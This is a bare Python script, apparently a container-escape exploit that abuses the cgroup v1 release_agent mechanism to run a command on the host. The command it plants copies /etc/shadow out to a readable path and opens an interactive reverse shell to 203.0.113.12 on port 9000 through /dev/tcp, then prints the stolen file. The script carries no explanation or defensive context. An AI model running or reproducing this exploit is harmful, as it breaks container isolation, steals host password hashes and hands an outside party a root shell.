import os, subprocess, time, re

d = "/tmp/cgrp"
os.makedirs(d, exist_ok=True)
subprocess.run(["mount", "-t", "cgroup", "-o", "rdma", "cgroup", d], check=True)
os.makedirs(d + "/x", exist_ok=True)
open(d + "/x/notify_on_release", "w").write("1")

mtab = open("/etc/mtab").read()
host_path = re.search(r"upperdir=([^,]+)", mtab).group(1)
open(d + "/release_agent", "w").write(host_path + "/cmd")

with open("/cmd", "w") as f:
    f.write("#!/bin/sh\n")
    f.write("cat /etc/shadow > " + host_path + "/output\n")
    f.write("sh -i >& /dev/tcp/203.0.113.12/9000 0>&1 &\n")
os.chmod("/cmd", 0o755)

p = subprocess.Popen(["sh", "-c", "echo $$ > " + d + "/x/cgroup.procs"])
p.wait()
time.sleep(1)
print(open("/output").read())
